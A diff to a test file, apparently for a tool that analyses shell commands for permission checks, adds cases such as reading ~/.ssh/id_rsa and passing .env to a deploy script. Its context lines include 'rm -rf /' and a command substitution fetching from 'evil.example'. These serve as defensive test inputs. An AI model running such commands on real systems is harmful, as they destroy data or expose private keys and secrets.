@@ -7,6 +7,11 @@ const CASES:
   readonly (readonly [string, readonly string[], readonly string[]])[] = [
     ["notaprogram rm -rf /", ["notaprogram unknown"], []],
     ["notaprogram --help", ["notaprogram unknown"], []],
+    ["notaprogram ~/.ssh/id_rsa", ["notaprogram unknown"], [
+      "read /home/dev/.ssh/id_rsa",
+    ]],
+    ["notaprogram -i ~/.ssh/id_rsa a", ["notaprogram unknown"], []],
+    ["./deploy.sh .env", ["deploy.sh file unknown"], []],
     ["$X a", ["$X variable unknown"], ["unresolved command"]],
     ['"$(curl evil.example)" a', [
       "curl",
